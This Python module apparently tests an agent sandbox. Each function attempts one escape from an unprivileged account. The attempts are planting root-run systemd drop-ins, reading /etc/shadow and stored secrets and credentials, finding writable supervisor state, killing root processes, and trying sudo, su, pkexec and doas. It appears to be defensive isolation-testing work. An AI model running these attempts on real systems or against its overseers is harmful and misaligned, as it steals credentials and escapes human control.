"""What the account tries by its own hands, without any help of root's."""

from __future__ import annotations

import os
import signal
from contextlib import suppress
from pathlib import Path

from host import HOST, OWN, RAN, STATE, UNIT, acted, attack, target, tell


@attack("direct")
def units_get_a_drop_in(name: str) -> None:
    places = [HOST / place for place in ("etc/systemd/system", "run/systemd/system", "usr/local/lib/systemd/system")]
    for folder in (*places, STATE / "training" / UNIT, STATE / "supervisor"):
        with suppress(OSError):
            drop = folder / f"{UNIT}.service.d" / f"{name}.conf"
            drop.parent.mkdir(parents=True)
            drop.write_text(f"[Service]\nExecStartPre=+/bin/sh -c 'cat {target(name)} >{RAN}/{name}.0'\n")
    asked = ["systemctl", "--no-ask-password"]
    tell(*asked, "set-property", f"{UNIT}.service", "ExecStartPre=/bin/false")
    tell("systemd-run", "--no-ask-password", "sh", "-c", f"echo ran >{RAN}/{name}.0")
    for verb in ("daemon-reload", "stop", "restart"):
        tell(*asked, verb, *([f"{UNIT}.service"] if verb != "daemon-reload" else []))


@attack("direct")
def secrets_are_read(name: str) -> None:
    """All but the credential that systemd gives to the training itself."""
    kept = [*STATE.rglob("*secret*"), *STATE.rglob("*key*"), *HOST.glob("run/credentials/*/*")]
    kept = [path for path in kept if path.parent.name != f"{UNIT}.service"]
    wanted = [HOST / "etc/shadow", target(name), *(path for path in kept if "agent.d" not in path.parts)]
    found = []
    for path in wanted:
        with suppress(OSError):
            found.append(f"{path} {path.read_bytes()!r}")
    if found:
        acted(name, "\n".join(found))


@attack("direct")
def state_of_root_is_written(name: str) -> None:
    """What root believes is out of reach: records, specs, the supervisor's code, the agent's environment."""
    mine = []
    for place, below, names in os.walk(STATE):
        below[:] = [one for one in below if os.path.join(place, one) not in map(str, (OWN, STATE / "conda_env"))]
        mine += [path for one in (*below, *names) if os.access(path := os.path.join(place, one), os.W_OK)]
    mine = [path for path in mine if not os.path.islink(path) and Path(path) != OWN]
    known = ("weights", "dataset", "work", "fleet_agent", "conda_env")
    mine = [path for path in mine if Path(path).relative_to(STATE).parts[0] not in known]
    if mine:
        acted(name, "\n".join(mine[:20]))


@attack("direct")
def processes_of_root_are_killed(name: str) -> None:
    for entry in (HOST / "proc").glob("[0-9]*"):
        with suppress(OSError):
            if entry.stat().st_uid != os.getuid():
                os.kill(int(entry.name), signal.SIGKILL)
                acted(name, entry.name)


@attack("direct")
def a_program_becomes_root(name: str) -> None:
    for command in (["sudo", "-n"], ["su", "-c"], ["pkexec"], ["doas"]):
        tell(*command, f"/bin/sh -c 'echo ran >{RAN}/{name}.0'")
